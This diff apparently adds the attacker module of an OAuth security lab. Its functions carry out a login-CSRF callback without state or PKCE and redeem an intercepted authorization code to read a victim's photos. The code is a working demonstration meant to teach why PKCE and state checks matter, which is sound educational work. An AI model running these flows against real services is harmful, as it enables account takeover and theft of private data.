@@ -1,0 +1,68 @@
+/**
+ * @module attacks
+ *
+ * What Mallory does with the real services, one function per scenario of the printer's attack lab (/lab).
+ * She uses only what any stranger could: her own account, public endpoints, and what leaks to her site.
+ */
+import type { AttackerConfig } from './config.js';
+import { authorizeAs } from './mallory_browser.js';
+
+/**
+ * Scenario 1, CSRF on the callback (RFC 9700 §4.7): an authorization response for MALLORY's account, addressed to
+ * the printer's lab copy. She asks without state (she could not know the victim's anyway) and without PKCE.
+ * Returns the callback URL she will make the victim's browser open.
+ */
+export async function callbackWithMallorysCode(config: AttackerConfig): Promise<string> {
+  const request = new URL(`${config.auth.publicUrl}/authorize`);
+  request.searchParams.set('response_type', 'code');
+  request.searchParams.set('client_id', config.labClientId);
+  request.searchParams.set('redirect_uri', config.labRedirectUri);
+  request.searchParams.set('scope', 'photos.read');
+  const answer = await authorizeAs(request.href, config.auth.internalUrl, config.mallory.username, config.mallory.password, config.httpTimeoutMs);
+  if (!answer.startsWith(`${config.labRedirectUri}?`) || !new URL(answer).searchParams.has('code')) {
+    throw new Error(`The auth server did not give Mallory a code (it sent her to ${answer.slice(0, 200)}).`);
+  }
+  return answer;
+}
+
+export interface Redemption {
+  success: boolean;
+  summary: string;
+  details: string[];
+}
+
+/**
+ * Scenario 2, code interception (RFC 7636 §1, RFC 9700 §4.5): a code that leaked to her site is redeemed at the
+ * token endpoint as the lab's PUBLIC client (a public client has no secret to stop her). Without PKCE that is all
+ * it takes; with PKCE she would need the code_verifier, which never left the victim's printer.
+ */
+export async function redeemStolenCode(config: AttackerConfig, code: string): Promise<Redemption> {
+  const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: config.labRedirectUri, client_id: config.labPublicClientId });
+  const response = await fetch(`${config.auth.internalUrl}/token`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: form.toString(),
+    signal: AbortSignal.timeout(config.httpTimeoutMs),
+  });
+  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
+  if (response.status !== 200 || typeof body.access_token !== 'string') {
+    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
+    const description = typeof body.error_description === 'string' ? body.error_description : '';
+    return { success: false, summary: `The auth server refused the stolen code: ${error}.`, details: [`${error}: ${description}`] };
+  }
+  return readPhotos(config, body.access_token, 'Mallory redeemed the stolen code and read the victim’s photo list');
+}
+
+/** With a token in hand: whose photos does Drive show her? */
+export async function readPhotos(config: AttackerConfig, accessToken: string, what: string): Promise<Redemption> {
+  const response = await fetch(`${config.drive.internalUrl}/api/photos`, {
+    headers: { authorization: `Bearer ${accessToken}` },
+    signal: AbortSignal.timeout(config.httpTimeoutMs),
+  });
+  const body = (await response.json().catch(() => ({}))) as { owner?: unknown; photos?: { title?: unknown }[] };
+  if (response.status !== 200 || typeof body.owner !== 'string' || !Array.isArray(body.photos)) {
+    return { success: false, summary: `Drive refused her token (HTTP ${response.status}).`, details: [] };
+  }
+  const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
+  return { success: true, summary: `${what}: ${body.owner}’s ${titles.length} photos.`, details: [`owner: ${body.owner}`, ...titles] };
+}
